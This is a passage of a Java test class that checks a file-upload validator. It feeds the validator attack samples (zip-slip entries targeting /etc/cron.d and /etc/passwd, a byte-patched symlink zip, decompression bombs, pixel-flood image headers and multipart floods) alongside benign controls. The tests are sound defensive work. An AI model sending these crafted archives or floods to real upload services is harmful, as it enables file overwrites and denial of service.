        c.add(attack("D2", "50 entries overlapping one kernel", Reason.CONTAINER_LIMIT, ZIP, Samples.overlappingZip(50), "x.zip"));
        c.add(attack("D2", "zip entry ../ (zip slip)", Reason.ARCHIVE_UNSAFE_ENTRY, ZIP, Samples.zip(entries("../../etc/cron.d/x", "x")), "x.zip"));
        c.add(attack("D2", "zip entry absolute", Reason.ARCHIVE_UNSAFE_ENTRY, ZIP, Samples.zip(entries("/etc/passwd", "x")), "x.zip"));
        c.add(attack("D2", "zip entry backslash", Reason.ARCHIVE_UNSAFE_ENTRY, ZIP, Samples.zip(entries("..\\..\\x.txt", "x")), "x.zip"));
        c.add(attack("D2", "zip entry symlink", Reason.ARCHIVE_UNSAFE_ENTRY, ZIP, symlinkZip(), "x.zip"));
        c.add(control("D2", "zip with a folder", ZIP, Samples.zip(entries("docs/", "", "docs/a.txt", "hello")), "x.zip"));
        c.add(attack("D3", "200 000 entries", Reason.CONTAINER_LIMIT, BIG_ZIP, many(), "x.zip"));
        c.add(control("D3", "100 entries", ZIP, Samples.manyEntries(100), "x.zip"));
        c.add(attack("D4", "PNG 100000 x 100000", Reason.PIXEL_LIMIT, IMAGES, Samples.pngHeader(100_000, 100_000), "x.png"));
        c.add(attack("D4", "JPEG 65500 x 65500", Reason.PIXEL_LIMIT, IMAGES, Samples.jpegHeader(65_500, 65_500), "x.jpg"));
        c.add(attack("D4", "GIF 65535 x 65535", Reason.PIXEL_LIMIT, IMAGES, Samples.gifHeader(65_535, 65_535), "x.gif"));
        c.add(attack("D4", "WebP 16384 x 16384", Reason.PIXEL_LIMIT, IMAGES, Samples.webp(16_384, 16_384), "x.webp"));
        UploadPolicy heic = UploadPolicy.allowing("heic");
        c.add(attack("D4", "HEIC ispe 100000 x 100000", Reason.PIXEL_LIMIT, heic, Samples.heic(100_000, 100_000), "x.heic"));
        c.add(control("D4", "HEIC ispe 4032 x 3024", heic, Samples.heic(4032, 3024), "x.heic"));
        c.add(control("D4", "PNG header 5000 x 5000 (25 MP)", IMAGES, Samples.pngHeader(5000, 5000), "x.png"));
        c.add(control("D4", "WebP 100 x 100", IMAGES, Samples.webp(100, 100), "x.webp"));
        c.add(attack("D5", "gzip of 10 MB zeros as x.txt", Reason.TYPE_MISMATCH, DOCS, gzip(new byte[10 << 20]), "x.txt"));
        c.add(attack("D5", "gzip as x.gz", Reason.EXTENSION_NOT_ALLOWED, DOCS, gzip(new byte[1024]), "x.gz"));
        c.add(attack("D5", "PDF FlateDecode stream inflating to 200 MiB", Reason.CONTAINER_LIMIT, DOCS,
                Samples.pdfWithStream(Samples.zlibBomb(200)), "x.pdf"));
        c.add(control("D5", "text", DOCS, text, "x.txt"));
        UploadPolicy small = IMAGES.toBuilder().maxParts(5).maxFieldSize(100).maxFileSize(1000).maxRequestSize(20_000).build();
        FilterHarness.Body flood = FilterHarness.body();
        for (int i = 0; i < 100; i++) {
            flood.file("f", "a.png", png);
        }
        c.add(filter("D6", "100 parts", Reason.TOO_MANY_PARTS, small, flood.end(), true));
        c.add(filter("D6", "2 parts", null, small, FilterHarness.body().field("a", "1").file("f", "x.png", png).end(), false));
        c.add(filter("D7", "10 kB Content-Disposition", Reason.PART_HEADER_TOO_LARGE, small, FilterHarness.body()
                .part("form-data; name=\"" + "n".repeat(10_000) + "\"", null, ascii("x")).end(), false));
        c.add(filter("D7", "normal headers", null, small, FilterHarness.body().field("name", "x").end(), false));
        FilterHarness.Body fields = FilterHarness.body();
        for (int i = 0; i < 10_000; i++) {
            fields.field("f" + i, "v");
        }
        c.add(filter("D8", "10 000 fields", Reason.TOO_MANY_PARTS, small, fields.end(), true));
        c.add(filter("D8", "one huge field", Reason.FIELD_TOO_LARGE, small, FilterHarness.body().field("a", "x".repeat(1000)).end(), false));
        c.add(filter("D8", "3 small fields", null, small, FilterHarness.body().field("a", "1").field("b", "2").field("c", "3").end(), false));
        FilterHarness.Body files = FilterHarness.body();
        for (int i = 0; i < 1000; i++) {
            files.file("f", "a" + i + ".png", png);
        }
        c.add(filter("D9", "1000 small files", Reason.TOO_MANY_PARTS, small, files.end(), true));
        c.add(filter("D9", "5 small files", null, small, FilterHarness.body().file("f", "1.png", png).file("f", "2.png", png).file("f", "3.png", png).file("f", "4.png", png).file("f", "5.png", png).end(), false));
        c.add(filter("D10", "chunked file over max-file-size", Reason.TOO_LARGE, small, FilterHarness.body().file("f", "x.png", concat(png, new byte[5000])).end(), true));
        UploadPolicy wideFile = small.toBuilder().maxFileSize(1 << 20).build();
        byte[] bigPng = Samples.pngWithChunk("tEXt", ascii("Comment\0" + "x".repeat(30_000)));
        c.add(filter("D10", "chunked body over max-request-size", Reason.REQUEST_TOO_LARGE, wideFile, FilterHarness.body().file("f", "x.png", bigPng).end(), true));
        c.add(filter("D10", "Content-Length over max-request-size", Reason.REQUEST_TOO_LARGE, wideFile, FilterHarness.body().file("f", "x.png", bigPng).end(), false));
        c.add(filter("D10", "chunked small file", null, small, FilterHarness.body().file("f", "x.png", png).end(), true));
        return c.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void attackRejectedWithItsReasonAndControlAccepted(Case c) throws Exception {
        List<Reason> reasons = c.run().call();
        if (c.expected() == null) {
            assertThat(reasons).as(c.toString()).isEmpty();
        } else {
            assertThat(reasons).as(c.toString()).contains(c.expected());
        }
    }

    @Test
    void everyFamilyHasAnAttackAndAControl() {
        Set<String> attacks = new TreeSet<>();
        Set<String> controls = new TreeSet<>();
        cases().forEach(c -> (c.expected() == null ? controls : attacks).add(c.family()));
        List<String> families = new ArrayList<>();
        for (int i = 1; i <= 18; i++) {
            families.add("F" + i);
        }
        for (int i = 1; i <= 23; i++) {
            families.add("C" + i);
        }
        for (int i = 1; i <= 10; i++) {
            families.add("D" + i);
        }
        assertThat(attacks).containsAll(families);
        for (String f : families) {
            assertThat(controls.contains(f) || (f.startsWith("F") && controls.contains("F"))).as(f + " has a control").isTrue();
        }
    }

    private static byte[] bombCache;
    private static byte[] manyCache;

    static synchronized byte[] bomb() {
        if (bombCache == null) {
            bombCache = Samples.zipBomb();
        }
        return bombCache;
    }

    static synchronized byte[] many() {
        if (manyCache == null) {
            manyCache = Samples.manyEntries(200_000);
        }
        return manyCache;
    }

    static byte[] random(int n) {
        byte[] b = new byte[n];
        new java.util.Random(42).nextBytes(b);
        b[0] = 0x01;
        b[1] = (byte) 0x9f;
        return b;
    }

    static byte[] gzip(byte[] data) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream g = new java.util.zip.GZIPOutputStream(out)) {
            g.write(data);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] symlinkZip() {
        byte[] z = Samples.zip(entries("link", "/etc/passwd"));
        // patch the central directory: made by Unix (3), external attributes S_IFLNK | 0777
        for (int i = z.length - 22; i >= 0; i--) {
            if (z[i] == 0x50 && z[i + 1] == 0x4b && z[i + 2] == 1 && z[i + 3] == 2) {
                z[i + 5] = 3;
                int ext = 0xA1FF << 16;
                z[i + 38] = (byte) ext;
                z[i + 39] = (byte) (ext >> 8);
                z[i + 40] = (byte) (ext >> 16);
                z[i + 41] = (byte) (ext >> 24);
                break;
            }
        }
        return z;
    }

    static {
        // keep Arrays import used for readers of this table
        Arrays.hashCode(new byte[0]);
    }
}
